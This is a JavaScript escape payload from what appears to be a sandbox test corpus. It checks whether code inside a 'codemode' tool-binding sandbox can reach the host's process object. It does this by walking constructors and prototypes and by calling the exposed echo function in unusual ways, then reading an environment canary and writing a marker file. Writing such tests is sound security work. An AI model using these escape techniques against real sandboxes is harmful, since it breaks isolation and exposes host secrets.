// @name    the tool binding: its properties, caller, prototype, and odd ways to call it
// @family  host-function
// @ref     generic (node:vm / isolated-vm references passed into a context)
// @expect  no-escape
// ---- prelude (the same in every escape payload of this corpus): what to do with the host once reached ----
const MARKER = "/tmp/codemode-escape-marker";
// pwn(p): p is the host's `process`. Take the canary and leave the marker file; the canary in the
// outcome (or the marker on disk) is what the runner reports as an escape.
function pwn(p) {
  let canary = "?";
  try { canary = String(p.env.CODEMODE_CANARY); } catch {}
  try {
    const fs = typeof p.getBuiltinModule === "function" ? p.getBuiltinModule("node:fs") : p.mainModule.require("node:fs");
    fs.writeFileSync(MARKER, "escaped " + canary);
  } catch {}
  return "ESCAPED " + canary;
}
// hostProcess(v): v when it looks like a host process object.
function hostProcess(v) {
  try { if (v !== null && typeof v === "object" && typeof v.pid === "number" && v.env) return v; } catch {}
  return null;
}
// viaCtor(F): F used as the Function constructor of another realm, asked for that realm's process.
function viaCtor(F) {
  if (typeof F !== "function") return null;
  const bodies = ["return process", "return globalThis.process", "return this && this.process",
    "return typeof require === 'function' ? require('node:process') : null"];
  for (const body of bodies) {
    try { const p = hostProcess(F(body)()); if (p) return pwn(p); } catch {}
  }
  return null;
}
// probe(x): x itself, then the constructors one and two steps up from x and from its prototype.
function probe(x) {
  if (x === null || x === undefined) return null;
  const direct = hostProcess(x);
  if (direct) return pwn(direct);
  const fns = [];
  const take = (f) => { if (typeof f === "function" && fns.indexOf(f) < 0) fns.push(f); };
  try { take(x.constructor); take(x.constructor && x.constructor.constructor); } catch {}
  try {
    const proto = Reflect.getPrototypeOf(Object(x));
    take(proto && proto.constructor);
    take(proto && proto.constructor && proto.constructor.constructor);
  } catch {}
  for (const f of fns) { const r = viaCtor(f); if (r) return r; }
  return null;
}
// ---- payload ----
let out = null;
const echo = codemode.demo.echo;
for (const v of [echo, codemode, codemode.demo, Reflect.getPrototypeOf(codemode), Reflect.getPrototypeOf(codemode.demo)]) {
  out = out || probe(v);
  if (v === null || v === undefined) continue;
  for (const k of Reflect.ownKeys(v)) {
    try { const d = Reflect.getOwnPropertyDescriptor(v, k); out = out || probe(d.value) || probe(d.get) || probe(d.set); } catch {}
  }
}
try { out = out || probe(echo.caller) || probe(echo.arguments); } catch {}
try { out = out || probe(echo.prototype); } catch {}
const odd = [
  () => echo.bind(globalThis)({ a: 1 }),
  () => Reflect.apply(echo, codemode.demo, [{ b: 2 }, "extra", () => 1]),
  () => echo.call(new Proxy({}, { get(t, k, r) { out = out || probe(r); return undefined; } }), { c: 3 }),
  () => new echo({ d: 4 }),
  () => Reflect.construct(echo, [{ e: 5 }], Array),
  () => [{ f: 6 }].map(echo)[0],
];
for (const call of odd) {
  try { out = out || probe(await call()); } catch (e) { out = out || probe(e); }
}
return out || "blocked";
